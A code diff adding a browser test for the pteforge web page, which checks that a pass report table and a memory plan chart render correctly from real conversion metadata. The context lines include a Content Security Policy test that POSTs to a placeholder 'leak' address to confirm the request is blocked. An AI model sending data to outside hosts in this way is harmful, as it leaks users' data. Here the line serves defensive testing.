@@ -219,6 +219,65 @@ describe('pteforge web page', () => {
     await env.page.screenshot({ path: join(ARTIFACTS, 'page-converted.png'), fullPage: true });
   });
 
+  test('the result views: pass report table and memory plan chart from a real metadata JSON', async () => {
+    // tests/browser/data/layernorm_residual.metadata.json: `pteforge convert
+    // --metadata` output for the corpus case layernorm_residual.
+    const metadata = JSON.parse(readFileSync(repo('tests', 'browser', 'data', 'layernorm_residual.metadata.json'), 'utf8'));
+    const shown = await env.page.evaluate(async (md) => {
+      const { renderMemory, renderReport } = await import('./results.mjs');
+      const host = document.createElement('div');
+      host.append(renderReport(md.pass_report), ...md.methods.map(renderMemory));
+      document.body.append(host);
+      const bars = [...host.querySelectorAll('[data-testid=memory-chart] rect')].map((r) => ({
+        title: r.querySelector('title').textContent,
+        x: +r.getAttribute('x'), w: +r.getAttribute('width'), y: +r.getAttribute('y'), h: +r.getAttribute('height'),
+      }));
+      const out = {
+        rows: [...host.querySelectorAll('[data-testid=pass-report] tbody tr')].map((tr) => [...tr.children].map((td) => td.textContent)),
+        diagnostics: [...host.querySelectorAll('.warnings li')].map((li) => li.textContent),
+        arena: host.querySelector('[data-testid=arena]').textContent,
+        bars,
+      };
+      host.remove();
+      return out;
+    }, metadata);
+    const passes = metadata.pass_report.passes;
+    assert.equal(shown.rows.length, passes.length);
+    shown.rows.forEach((row, i) => {
+      const p = passes[i];
+      assert.deepEqual(row.slice(0, 2), [p.method, p.name]);
+      assert.equal(row[2], p.skipped ? 'skipped' : p.changed ? 'changed' : '—');
+      assert.equal(row[3], p.ms.toFixed(2));
+      assert.deepEqual(row.slice(4, 6), [String(p.nodes_before), String(p.nodes_after)]);
+    });
+    assert.equal(shown.diagnostics.length, metadata.pass_report.diagnostics.length);
+    const plan = metadata.methods[0].memory_plan;
+    assert.equal(shown.arena, `greedy: arena 1,216 B (1.2 KiB), lower bound 1,216 B (1.2 KiB), ratio 1.000; ${plan.tensors.length} planned tensors`);
+    assert.deepEqual(shown.bars.map((b) => b.title), plan.tensors.map((t) =>
+      `${t.names.join(', ')}: ${t.size} B at mem${t.mem_id}+${t.offset}, lifetime ${t.lifetime[0]}–${t.lifetime[1]}`));
+    // Geometry: x grows with the first node, width with the lifetime's length,
+    // y falls (SVG) as the offset grows, height grows with the size.
+    const unitX = shown.bars[0].w / (plan.tensors[0].lifetime[1] - plan.tensors[0].lifetime[0] + 1);
+    const unitY = shown.bars[0].h / plan.tensors[0].size;
+    plan.tensors.forEach((t, i) => {
+      const b = shown.bars[i];
+      assert.ok(Math.abs(b.w - unitX * (t.lifetime[1] - t.lifetime[0] + 1)) < 1e-6, b.title);
+      assert.ok(Math.abs(b.x - shown.bars[0].x - unitX * (t.lifetime[0] - plan.tensors[0].lifetime[0])) < 1e-6, b.title);
+      assert.ok(Math.abs(b.h - unitY * t.size) < 1e-6, b.title);
+      assert.ok(Math.abs(b.y + b.h - (shown.bars[0].y + shown.bars[0].h) + unitY * (t.offset - plan.tensors[0].offset)) < 1e-6, b.title);
+    });
+    // How it looks in the page (artifact).
+    await pick(env.page, join(CORPUS, 'layernorm_residual', 'layernorm_residual.pt2'));
+    await env.page.evaluate(async (md) => {
+      const { renderMemory, renderReport } = await import('./results.mjs');
+      document.getElementById('report').replaceChildren(renderReport(md.pass_report));
+      document.getElementById('memory').replaceChildren(...md.methods.map(renderMemory));
+      document.getElementById('results').hidden = false;
+    }, metadata);
+    await env.page.locator('#results').screenshot({ path: join(ARTIFACTS, 'page-results.png') });
+    await env.page.evaluate(() => { document.getElementById('results').hidden = true; });
+  });
+
   test('the CSP stops the page and its worker from sending data elsewhere', async () => {
     const fromPage = await env.page.evaluate(() => fetch('http://192.0.2.1/leak', { method: 'POST', body: 'x' }).then(() => 'sent', () => 'blocked'));
     assert.equal(fromPage, 'blocked');
